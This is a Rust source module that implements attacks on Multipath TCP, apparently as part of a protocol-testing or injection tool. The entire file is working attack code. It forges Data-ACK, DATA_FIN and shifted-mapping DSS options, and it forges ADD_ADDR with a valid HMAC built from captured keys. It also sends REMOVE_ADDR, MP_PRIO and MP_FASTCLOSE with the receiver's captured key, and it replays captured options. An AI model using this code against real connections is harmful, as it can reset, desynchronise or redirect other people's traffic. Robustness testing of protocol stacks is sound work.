//! Attacks with the options of Multipath TCP.

use hmac::{Hmac, Mac};
use plait_base::{Random, SeededRandom};
use plait_wire::{
    AddAddr, DataAck, DataSequence, Dss, FastClose, Mapping, MpPrio, MptcpOption, RemoveAddr, Segment,
    TcpOption,
};
use sha2::Sha256;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use super::option_list::{join, list, subtype};
use super::termination::bare;
use super::{AttackName, Context, Piece};
use crate::flows::OptionClass;

/// The address announced by forged ADD_ADDRs: a documentation address (RFC 5737, RFC 3849), where no host answers.
const ANNOUNCED_V4: IpAddr = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 66));
const ANNOUNCED_V6: IpAddr = IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x66));
/// Its address id: one that no host uses.
const ANNOUNCED_ID: u8 = 66;
/// Address ids that forged REMOVE_ADDRs take away: that of the first address, and the first given by hosts that count.
const REMOVED_IDS: [u8; 9] = [0, 1, 2, 3, 4, 5, 6, 7, 8];
/// How far beyond everything sent a forged Data-ACK goes every second time.
const BEYOND: u64 = 1 << 20;
/// By how much a forged mapping is off.
const SHIFT: u64 = 4096;

/// A forged option on a segment without payload, in front of `segment`.
pub(super) fn forge(
    attack: AttackName,
    segment: Segment,
    context: &Context<'_>,
    random: &mut SeededRandom,
) -> Option<Vec<Piece>> {
    match attack {
        AttackName::ForgeAck => {
            let (highest, is_long) = context.flow.sent(context.direction.opposite()).data_next?;
            let ack =
                if context.injections.is_multiple_of(2) { highest } else { highest.wrapping_add(BEYOND) };
            let wire = if is_long { DataAck::Long(ack) } else { DataAck::Short(ack as u32) };
            let dss = Dss { data_ack: Some(wire), mapping: None, data_fin: false };
            with_option(attack, segment, &MptcpOption::Dss(dss), format!("Data-ACK {ack}"))
        }
        AttackName::DataFin => {
            let highest = context.flow.sent(context.direction).data_next;
            let (next, is_long) = first_mapped(&segment).or(highest)?;
            let dsn = if is_long { DataSequence::Long(next) } else { DataSequence::Short(next as u32) };
            let mapping = Mapping { dsn, ssn: 0, length: 1, checksum: None };
            let dss = Dss { data_ack: None, mapping: Some(mapping), data_fin: true };
            with_option(attack, segment, &MptcpOption::Dss(dss), format!("DATA_FIN at {next}"))
        }
        AttackName::AddAddr => {
            let (option, what) = add_addr(&segment, context, random);
            with_option(attack, segment, &MptcpOption::AddAddr(option), what)
        }
        AttackName::RemoveAddr => {
            let option = MptcpOption::RemoveAddr(RemoveAddr { address_ids: &REMOVED_IDS });
            with_option(attack, segment, &option, "REMOVE_ADDR of ids 0 to 8".to_owned())
        }
        AttackName::Prio => {
            let option = MptcpOption::Prio(MpPrio { backup: true });
            with_option(attack, segment, &option, "MP_PRIO: backup".to_owned())
        }
        AttackName::Fastclose => {
            let known = context.flow.sent(context.direction.opposite()).key;
            let receiver_key = known.unwrap_or_else(|| bytes_of(random));
            let what = if known.is_some() { "with the receiver's key" } else { "with a guessed key" };
            let option = MptcpOption::FastClose(FastClose { receiver_key });
            with_option(attack, segment, &option, format!("MP_FASTCLOSE {what}"))
        }
        other => unreachable_family(other),
    }
}

/// `forge` and `replay` are called for their own attacks only; for another there is nothing to do.
fn unreachable_family(attack: AttackName) -> Option<Vec<Piece>> {
    debug_assert!(false, "{attack} has no option to forge");
    None
}

/// The data sequence number with which the mapping of a segment begins, and whether it is written in full.
fn first_mapped(segment: &Segment) -> Option<(u64, bool)> {
    plait_wire::options(&segment.options).flatten().find_map(|option| match option {
        TcpOption::Mptcp(MptcpOption::Dss(Dss { mapping: Some(mapping), .. })) => Some(match mapping.dsn {
            DataSequence::Long(dsn) => (dsn, true),
            DataSequence::Short(dsn) => (u64::from(dsn), false),
        }),
        _ => None,
    })
}

/// An ADD_ADDR as from the sender of `segment`.
fn add_addr(segment: &Segment, context: &Context<'_>, random: &mut SeededRandom) -> (AddAddr, String) {
    let address = if segment.source.is_ipv4() { ANNOUNCED_V4 } else { ANNOUNCED_V6 };
    let keys =
        (context.flow.sent(context.direction).key, context.flow.sent(context.direction.opposite()).key);
    let (hmac, how) = match keys {
        (Some(own), Some(other)) => (address_hmac(own, other, address), "a valid HMAC"),
        (None, _) | (_, None) => (bytes_of(random), "a guessed HMAC"),
    };
    let option = AddAddr { echo: false, address_id: ANNOUNCED_ID, address, port: None, hmac: Some(hmac) };
    (option, format!("ADD_ADDR of {address} with {how}"))
}

/// RFC 8684, section 3.4.1: keyed with the sender's and the receiver's key, over id, address and a port of zero.
fn address_hmac(own: [u8; 8], other: [u8; 8], address: IpAddr) -> [u8; 8] {
    let mut key = [0; 16];
    key[..8].copy_from_slice(&own);
    key[8..].copy_from_slice(&other);
    // HMAC takes keys of any length.
    let Ok(mut mac) = Hmac::<Sha256>::new_from_slice(&key) else { return [0; 8] };
    mac.update(&[ANNOUNCED_ID]);
    match address {
        IpAddr::V4(v4) => mac.update(&v4.octets()),
        IpAddr::V6(v6) => mac.update(&v6.octets()),
    }
    mac.update(&[0, 0]);
    let whole = mac.finalize().into_bytes();
    let mut last = [0; 8];
    last.copy_from_slice(&whole[24..]);
    last
}

fn bytes_of(random: &mut SeededRandom) -> [u8; 8] {
    random.next_u64().to_be_bytes()
}

fn with_option(
    attack: AttackName,
    segment: Segment,
    option: &MptcpOption<'_>,
    what: String,
) -> Option<Vec<Piece>> {
    let mut bytes = plait_wire::OptionBytes::new();
    if !TcpOption::Mptcp(option.clone()).emit(&mut bytes) {
        return None;
    }
    Some(with_bytes(attack, segment, &bytes, what))
}

fn with_bytes(attack: AttackName, segment: Segment, option: &[u8], what: String) -> Vec<Piece> {
    let mut forged = bare(&segment);
    let mut options = list(&forged.options);
    options.push(option.to_vec());
    forged.options = join(&options);
    vec![Piece::treated(attack, forged, what), Piece::untouched(segment)]
}

/// A captured option again, on a new segment without payload.
pub(super) fn replay(attack: AttackName, segment: Segment, context: &Context<'_>) -> Option<Vec<Piece>> {
    let class = match attack {
        AttackName::ReplayAddAddr => OptionClass::AddAddr,
        AttackName::ReplayRemoveAddr => OptionClass::RemoveAddr,
        AttackName::ReplayPrio => OptionClass::Prio,
        AttackName::ReplayFastclose => OptionClass::FastClose,
        AttackName::ReplayDataFin => OptionClass::DataFin,
        AttackName::ReplayAck => OptionClass::DataAck,
        AttackName::ReplayDss => OptionClass::Mapping,
        other => return unreachable_family(other),
    };
    let option = context.flows.captured(context.flow, context.direction, class)?;
    let what = format!("a captured {class:?} of {} bytes again", option.len());
    Some(with_bytes(attack, segment, option, what))
}

/// Moves the mapping of a payload.
pub(super) fn forge_mapping(segment: Segment) -> Option<Vec<Piece>> {
    let mut options = list(&segment.options);
    let option = options.iter_mut().find(|option| subtype(option) == Some(2))?;
    let Ok(MptcpOption::Dss(mut dss)) = MptcpOption::parse(option.get(2..)?) else { return None };
    let mapping = dss.mapping.as_mut()?;
    let (old, new) = match &mut mapping.dsn {
        DataSequence::Long(dsn) => (*dsn, shift(dsn)),
        DataSequence::Short(dsn) => {
            let mut long = u64::from(*dsn);
            let (old, new) = (long, shift(&mut long));
            *dsn = new as u32;
            (old, new)
        }
    };
    // The checksum covers the number, which has grown by SHIFT in its lowest word.
    mapping.checksum = mapping.checksum.map(|checksum| {
        let sum = u32::from(!checksum) + SHIFT as u32;
        !((sum & 0xffff) as u16 + (sum >> 16) as u16)
    });
    let mut bytes = plait_wire::OptionBytes::new();
    if !TcpOption::Mptcp(MptcpOption::Dss(dss)).emit(&mut bytes) {
        return None;
    }
    *option = bytes.to_vec();
    let moved = Segment { options: join(&options), ..segment };
    Some(vec![Piece::treated(AttackName::ForgeDss, moved, format!("mapping moved from {old} to {new}"))])
}

fn shift(dsn: &mut u64) -> u64 {
    *dsn = dsn.wrapping_add(SHIFT);
    *dsn
}
